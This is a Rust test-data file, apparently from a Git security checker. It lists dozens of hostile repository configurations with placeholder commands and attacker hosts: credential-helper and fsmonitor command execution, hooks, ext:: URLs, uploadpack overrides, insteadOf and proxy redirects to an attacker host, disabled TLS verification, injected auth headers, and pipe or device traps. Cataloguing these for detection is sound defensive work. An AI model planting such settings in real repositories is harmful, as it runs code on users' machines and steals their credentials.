//! What a hostile repository can bring: the measured matrix, row by row.
//!
//! In the texts `CMD` is a program that leaves a canary, `GOOD` the URL of the remote on an honest
//! server, `BASE` that server, `TLS` the same over https with a certificate that nobody trusts,
//! `AUTHORITY` who signed it, `EVIL` host and port of the attacker, `HOME` the person's home.

/// One attack.
pub struct Row {
    pub name: &'static str,
    /// The URL of `origin`.
    pub remote: &'static str,
    /// Added to `.git/config`.
    pub config: &'static str,
    pub brings: &'static [Brings],
    /// A Git command that falls for it, to show that the attack is one.
    pub bites: &'static [&'static str],
    /// What a check says of fetching; empty where the repository cannot be read.
    pub fetch: &'static str,
    /// Whether the repository's override is shown.
    pub is_shown: bool,
}

/// What lies in the repository besides, at a path below it.
pub enum Brings {
    File(&'static str, &'static str),
    Program(&'static str),
    Pipe(&'static str),
    Link(&'static str, &'static str),
    /// Of so many bytes.
    Large(&'static str, usize),
}

use Brings::{File, Large, Link, Pipe, Program};

const FILL: &[&str] = &["credential", "fill"];
const LS_REMOTE: &[&str] = &["ls-remote", "origin"];
const PUSH: &[&str] = &["push", "--dry-run", "origin", "HEAD:refs/heads/x"];
const STATUS: &[&str] = &["status"];
const HELPER: &str = "[credential]\n\thelper = !CMD\n";

/// Shown, and the check of the honest server is as if it were not there.
const fn set(name: &'static str, config: &'static str, bites: &'static [&'static str]) -> Row {
    Row {
        name,
        remote: "GOOD",
        config,
        brings: &[],
        bites,
        fetch: "works",
        is_shown: true,
    }
}

const fn brought(name: &'static str, config: &'static str, brings: &'static [Brings]) -> Row {
    Row {
        brings,
        is_shown: false,
        ..set(name, config, &[])
    }
}

const fn remote(
    name: &'static str,
    remote: &'static str,
    config: &'static str,
    fetch: &'static str,
) -> Row {
    Row {
        remote,
        fetch,
        ..set(name, config, LS_REMOTE)
    }
}

/// Something in the place of a file that hangs or misleads whoever opens it.
const fn trap(name: &'static str, config: &'static str, brings: &'static [Brings]) -> Row {
    Row {
        fetch: "",
        ..brought(name, config, brings)
    }
}

pub const ROWS: &[Row] = &[
    set("a helper", HELPER, FILL),
    set(
        "a helper by its path",
        "[credential]\n\thelper = CMD\n",
        FILL,
    ),
    set(
        "a helper instead of the person's",
        "[credential]\n\thelper =\n\thelper = !CMD\n",
        FILL,
    ),
    set(
        "a helper for the URL",
        "[credential \"BASE\"]\n\thelper = !CMD\n",
        FILL,
    ),
    set(
        "a helper for any host",
        "[credential \"http://*\"]\n\thelper = !CMD\n[credential \"BASE/team\"]\n\thelper = !CMD\n",
        FILL,
    ),
    set("askPass", "[core]\n\taskPass = CMD\n", FILL),
    Row {
        is_shown: true,
        bites: FILL,
        ..brought(
            "an include",
            "[include]\n\tpath = ../brought.config\n",
            &[File("brought.config", HELPER)],
        )
    },
    Row {
        is_shown: true,
        bites: FILL,
        ..brought(
            "a conditional include",
            "[includeIf \"gitdir:**\"]\n\tpath = ../brought.config\n",
            &[File("brought.config", HELPER)],
        )
    },
    Row {
        is_shown: true,
        bites: FILL,
        ..brought(
            "a configuration of the work tree",
            "[extensions]\n\tworktreeConfig = true\n",
            &[File(".git/config.worktree", HELPER)],
        )
    },
    set("fsmonitor", "[core]\n\tfsmonitor = CMD\n", STATUS),
    Row {
        is_shown: true,
        ..brought(
            "a filter",
            "[filter \"x\"]\n\tclean = CMD\n\tsmudge = CMD\n\tprocess = CMD\n",
            &[File(".gitattributes", "* filter=x\n")],
        )
    },
    Row {
        bites: PUSH,
        ..brought(
            "hooks",
            "",
            &[
                Program(".git/hooks/pre-push"),
                Program(".git/hooks/post-index-change"),
                Program(".git/hooks/reference-transaction"),
                Program(".git/hooks/fsmonitor-watchman"),
            ],
        )
    },
    Row {
        bites: PUSH,
        is_shown: true,
        ..brought(
            "hooks elsewhere",
            "[core]\n\thooksPath = planted\n",
            &[
                Program("planted/pre-push"),
                Program("planted/post-index-change"),
            ],
        )
    },
    set(
        "hooks in the configuration",
        "[hook \"x\"]\n\tcommand = CMD\n\tevent = pre-push\n\tevent = post-index-change\n",
        &[],
    ),
    remote(
        "sshCommand",
        "ssh://git@127.0.0.1:1/x",
        "[core]\n\tsshCommand = CMD\n",
        "unreachable",
    ),
    remote(
        "gitProxy",
        "git://127.0.0.1:1/x",
        "[core]\n\tgitProxy = CMD\n",
        "unreachable",
    ),
    Row {
        bites: &[],
        is_shown: false,
        ..remote("an ext URL", "ext::CMD", "", "unsupported")
    },
    remote(
        "an ext URL that is allowed",
        "ext::CMD",
        "[protocol \"ext\"]\n\tallow = always\n",
        "unsupported",
    ),
    remote(
        "a remote helper",
        "CMD",
        "[remote \"origin\"]\n\tvcs = ext\n[protocol \"ext\"]\n\tallow = always\n",
        "unsupported",
    ),
    remote(
        "uploadpack at a path",
        "HOME/bare.git",
        "[remote \"origin\"]\n\tuploadpack = CMD\n\treceivepack = CMD\n",
        "works-without-sign-in",
    ),
    set(
        "uploadpack at a path by insteadOf",
        "[url \"HOME/bare.git\"]\n\tinsteadOf = GOOD\n[remote \"origin\"]\n\tuploadpack = CMD\n",
        LS_REMOTE,
    ),
    set(
        "a promisor",
        "[remote \"origin\"]\n\tpromisor = true\n\tpartialclonefilter = blob:none\n\tuploadpack = CMD\n[extensions]\n\tpartialClone = origin\n",
        &[],
    ),
    set(
        "insteadOf",
        "[url \"http://EVIL/\"]\n\tinsteadOf = BASE/\n",
        LS_REMOTE,
    ),
    set(
        "insteadOf with a name",
        "[url \"http://me:pw@EVIL/\"]\n\tinsteadOf = http://\n",
        LS_REMOTE,
    ),
    set(
        "pushInsteadOf",
        "[url \"http://EVIL/\"]\n\tpushInsteadOf = BASE/\n",
        PUSH,
    ),
    set("a proxy", "[http]\n\tproxy = http://EVIL\n", LS_REMOTE),
    set(
        "a proxy for the URL",
        "[http \"BASE\"]\n\tproxy = http://EVIL\n",
        LS_REMOTE,
    ),
    set(
        "a proxy of the remote",
        "[remote \"origin\"]\n\tproxy = http://EVIL\n",
        LS_REMOTE,
    ),
    set(
        "addresses of names",
        "[http]\n\tcurloptResolve = 127.0.0.1:1:127.0.0.2\n",
        &[],
    ),
    remote(
        "no verification",
        "TLS",
        "[http]\n\tsslVerify = false\n",
        "unreachable",
    ),
    remote(
        "no verification for the URL",
        "TLS",
        "[http \"https://localhost\"]\n\tsslVerify = false\n[http \"TLS\"]\n\tsslVerify = false\n",
        "unreachable",
    ),
    remote(
        "an authority",
        "TLS",
        "[http]\n\tsslCAInfo = AUTHORITY\n",
        "unreachable",
    ),
    set(
        "cookies over a file",
        "[http]\n\tcookieFile = HOME/victim\n\tsaveCookies = true\n",
        LS_REMOTE,
    ),
    set(
        "a header",
        "[http]\n\textraHeader = \"X-Evil: 1\"\n",
        LS_REMOTE,
    ),
    set(
        "a header that signs in",
        "[http]\n\textraHeader = \"Authorization: Basic ZXZpbDpldmls\"\n",
        LS_REMOTE,
    ),
    set(
        "certificates",
        "[http]\n\tsslCert = HOME/victim\n\tsslKey = HOME/victim\n\tsslCertPasswordProtected = true\n",
        &[],
    ),
    set(
        "other ways to sign in",
        "[http]\n\tdelegation = always\n\temptyAuth = true\n\tproactiveAuth = basic\n\tproxyAuthMethod = basic\n",
        &[],
    ),
    set(
        "protections switched off",
        "[credential]\n\tprotectProtocol = false\n\tsanitizePrompt = false\n\tinteractive = true\n\tuseHttpPath = false\n",
        &[],
    ),
    set(
        "aliases and programs",
        "[alias]\n\tcredential = !CMD\n\tls-remote = !CMD\n[core]\n\tpager = CMD\n\teditor = CMD\n[gpg]\n\tprogram = CMD\n[diff]\n\texternal = CMD\n[uploadpack]\n\tpackObjectsHook = CMD\n",
        &[],
    ),
    Row {
        is_shown: false,
        ..set(
            "a remote like an option",
            "[remote \"--upload-pack=CMD\"]\n\turl = --upload-pack=CMD\n",
            &[],
        )
    },
    brought(
        "submodules",
        "[submodule \"x\"]\n\tupdate = !CMD\n\turl = ext::CMD\n\tactive = true\n",
        &[File(
            ".gitmodules",
            "[submodule \"x\"]\n\tpath = ../../x\n\turl = ext::CMD\n\tupdate = !CMD\n",
        )],
    ),
    brought(
        "programs in the folder",
        "",
        &[
            Program("git"),
            Program("sh"),
            Program("ssh"),
            Program("git-credential-store"),
            Program("git-remote-http"),
            Program("git-credential-locksmith"),
            Program("xdg-open"),
            Program("git.exe"),
            Program("sh.exe"),
        ],
    ),
    brought(
        "a work tree elsewhere",
        "[core]\n\tworktree = HOME/elsewhere\n",
        &[],
    ),
    Row {
        bites: &[],
        is_shown: false,
        ..remote(
            "a URL of two hosts",
            "http://me@127.0.0.1\\@EVIL/x",
            "",
            "not-checked",
        )
    },
    set(
        "everything at once",
        "[credential]\n\thelper = !CMD\n[core]\n\taskPass = CMD\n\tsshCommand = CMD\n\tgitProxy = CMD\n\tfsmonitor = CMD\n\
         [http]\n\tproxy = http://EVIL\n\tsslVerify = false\n\tcookieFile = HOME/victim\n\tsaveCookies = true\n\tfollowRedirects = true\n\
         [url \"http://EVIL/\"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n[protocol]\n\tallow = always\n\
         [remote \"origin\"]\n\tuploadpack = CMD\n\treceivepack = CMD\n\tproxy = http://EVIL\n",
        LS_REMOTE,
    ),
    trap("a pipe for the configuration", "", &[Pipe(".git/config")]),
    trap("a pipe for HEAD", "", &[Pipe(".git/HEAD")]),
    trap("a pipe for commondir", "", &[Pipe(".git/commondir")]),
    trap("a pipe for .git", "", &[Pipe(".git")]),
    Row {
        fetch: "works",
        ..trap(
            "a pipe for an include",
            "[include]\n\tpath = ../pipe\n",
            &[Pipe("pipe")],
        )
    },
    Row {
        fetch: "works",
        ..trap(
            "a pipe for the work tree's",
            "[extensions]\n\tworktreeConfig = true\n",
            &[Pipe(".git/config.worktree")],
        )
    },
    Row {
        fetch: "works",
        ..trap("a pipe for the submodules", "", &[Pipe(".gitmodules")])
    },
    Row {
        fetch: "works",
        ..trap("an include of itself", "[include]\n\tpath = config\n", &[])
    },
    Row {
        fetch: "works",
        ..trap(
            "an include on another machine",
            "[include]\n\tpath = //evil.example/share/x\n",
            &[],
        )
    },
    Row {
        fetch: "works",
        ..trap(
            "an include of a device",
            "[include]\n\tpath = /dev/zero\n\tpath = /dev/tty\n",
            &[],
        )
    },
    Row {
        fetch: "works",
        ..trap(
            "a large include",
            "[include]\n\tpath = ../large\n",
            &[Large("large", 50 << 20)],
        )
    },
    trap(
        "a repository on another machine",
        "",
        &[File(".git/commondir", "//evil.example/share/x\n")],
    ),
    trap(
        "a device for the configuration",
        "",
        &[Link(".git/config", "/dev/zero")],
    ),
    trap(
        "a large configuration",
        "",
        &[Large(".git/config", 2 << 20)],
    ),
    trap("no end of quotes", "[a \"", &[]),
];
